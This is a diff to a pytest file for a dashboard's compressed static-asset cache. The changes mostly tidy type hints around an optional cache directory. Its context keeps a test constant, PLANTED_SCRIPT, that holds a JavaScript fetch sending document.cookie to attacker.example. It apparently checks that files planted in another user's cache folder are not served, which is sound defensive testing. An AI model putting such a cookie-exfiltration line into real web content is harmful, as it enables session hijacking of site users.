@@ -20,7 +20,7 @@ ASSET = PROJECT_DIR / "assets" / "lazy" / "plotly-basic-4.1.1.min.js"
 PLANTED_SCRIPT = b"fetch('https://attacker.example/?c=' + document.cookie);" * 20
 
 
-def use_cache_in(monkeypatch: pytest.MonkeyPatch, directory: Path) -> compression.CompressedStatic:
+def use_cache_in(monkeypatch: pytest.MonkeyPatch, directory: Path | None) -> compression.CompressedStatic:
     cache = compression.CompressedStatic(directory)
     monkeypatch.setattr(compression, "STATIC_CACHE", cache)
     return cache
@@ -96,7 +96,8 @@ def test_a_cache_folder_of_another_user_is_not_used(client, monkeypatch, tmp_pat
 
 def test_the_default_folder_is_made_private_and_a_wider_mode_is_tightened(monkeypatch, tmp_path: Path) -> None:
     monkeypatch.delenv("KPI_COMPRESSED_CACHE", raising=False)
-    assert compression.cache_directory().name == f"kpi-dashboard-compressed-{os.getuid()}"
+    default = compression.cache_directory()
+    assert default is not None and default.name == f"kpi-dashboard-compressed-{os.getuid()}"
     made = tmp_path / "new" / "cache"
     assert compression.private_directory(made)
     assert stat.S_IMODE(made.stat().st_mode) == 0o700
@@ -109,7 +110,7 @@ def test_the_default_folder_is_made_private_and_a_wider_mode_is_tightened(monkey
 
 def test_without_a_folder_the_best_version_is_kept_in_memory(client, monkeypatch) -> None:
     body = ASSET.read_bytes()
-    cache = use_cache_in(monkeypatch, None)  # type: ignore[arg-type]
+    cache = use_cache_in(monkeypatch, None)
     best = cache.prepare_now(body)
     response = client.get(ASSET_URL, headers={"Accept-Encoding": "br"})
     assert response.data == best
